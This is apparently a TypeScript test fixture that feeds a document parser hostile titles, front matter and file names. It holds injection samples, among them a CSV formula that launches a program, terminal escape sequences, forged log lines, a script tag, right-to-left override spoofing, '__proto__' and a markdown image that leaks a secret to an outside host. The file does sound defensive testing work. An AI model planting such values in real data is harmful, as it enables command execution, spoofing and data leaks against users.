/** Hostile names and fields: what a title, a file name or a front matter may try to do to whoever shows it. */
import { type BadInput, has, utf8 } from './bad-input.ts'

const story =
  'The harbour master said on Friday that two ships had left the port of Lindhaven before the storm came in. '.repeat(
    5,
  )

const titles: Readonly<Record<string, string>> = {
  'csv-equals': '=cmd|" /C calc"!A0',
  'csv-plus': '+1+1',
  'csv-minus': '-2+3',
  'csv-at': '@SUM(1+1)',
  'csv-tab': '\t=1+1',
  'csv-wide': '＝1+1',
  osc52: 'Ships \u001b]52;c;c2VjcmV0\u0007 leave the port',
  'ansi-clear': 'Ships \u001b[2J\u001b[H leave the port',
  'sql-name': `Ships]";-- 'leave' the port`,
  'newline-log': 'Ships\nERROR root logged in',
  script: '<script>alert(1)</script> Ships leave',
  rtlo: 'Ships leave \u202efdp.exe',
  'image-leak': 'Ships ![](http://public.example/?q=secret) leave',
  'fake-json': '"}],"claims":[{"quote":"invented"}]',
  proto: '__proto__',
  long: 'Ships leave '.repeat(2000),
}

const files: Readonly<Record<string, string>> = {
  'path-con': 'CON.txt',
  'path-nul': 'NUL.md',
  'path-dot': 'ships..txt',
  'path-spaces': ' ships .txt',
  'path-quote': `ships'";--].txt`,
  'path-newline': 'ships\nERROR.txt',
  'path-ansi': 'ships\u001b[31m.txt',
  'path-arg': '--output=x.txt',
  'path-rtlo': 'ships\u202etxt.html',
  'path-star': '*.txt',
  'path-long': `${'s'.repeat(250)}.txt`,
  'path-none': 'ships',
  'path-html-case': 'SHIPS.HTML',
}

export const nameInputs: readonly BadInput[] = [
  ...Object.entries(titles).flatMap(([name, title]): BadInput[] => [
    {
      family: 'names',
      name: `title-${name}`,
      file: `${name}.html`,
      bytes: () =>
        utf8(
          `<html><head><meta property="og:title" content="${quoted(title)}"></head><body><p>${story}</p></body></html>`,
        ),
      expect: has('two ships'),
    },
    {
      family: 'names',
      name: `front-${name}`,
      file: `${name}.md`,
      bytes: () => utf8(`---\ntitle: ${title}\ndate: ${title}\nurl: ${title}\n---\n\n${story}`),
      expect: (o) =>
        o.url === null && o.published === null
          ? has('two ships')(o)
          : `address ${o.url}, date ${o.published}`,
    },
  ]),
  ...Object.entries(files).map(
    ([name, file]): BadInput => ({
      family: 'names',
      name,
      file,
      bytes: () => utf8(/html/i.test(file) ? `<html><body><p>${story}</p></body></html>` : story),
      expect: has('two ships'),
    }),
  ),
]

function quoted(words: string): string {
  return words.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
}
